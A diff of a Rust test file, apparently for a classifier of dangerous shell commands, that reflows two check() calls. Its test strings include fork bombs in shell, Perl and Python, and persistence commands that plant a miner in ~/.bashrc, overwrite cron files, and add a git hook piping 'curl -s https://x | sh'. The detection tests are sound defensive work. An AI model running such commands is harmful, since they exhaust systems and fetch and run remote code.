@@ -141,7 +141,10 @@ fn fork_bombs() {
     check("f(){ f|f& }; f", Some(ForkBomb));
     check("perl -e 'fork while fork'", Some(ForkBomb));
     check("bash -c ':(){ :|:& };:'", Some(ForkBomb));
-    check("python3 -c 'import os\nwhile True: os.fork()'", Some(ForkBomb));
+    check(
+        "python3 -c 'import os\nwhile True: os.fork()'",
+        Some(ForkBomb),
+    );
 }
 
 #[test]
@@ -245,7 +248,10 @@ fn persistence() {
     check("echo '/tmp/.x/miner &' >> ~/.bashrc", c);
     check("curl -o ~/.bashrc https://x", c);
     check("wget -O /etc/cron.d/job https://x", c);
-    check("echo 'curl -s https://x | sh' > .git/hooks/pre-commit", Some(PipeToShell));
+    check(
+        "echo 'curl -s https://x | sh' > .git/hooks/pre-commit",
+        Some(PipeToShell),
+    );
     check("echo 'wget https://x' > .git/hooks/post-checkout", c);
 }
 
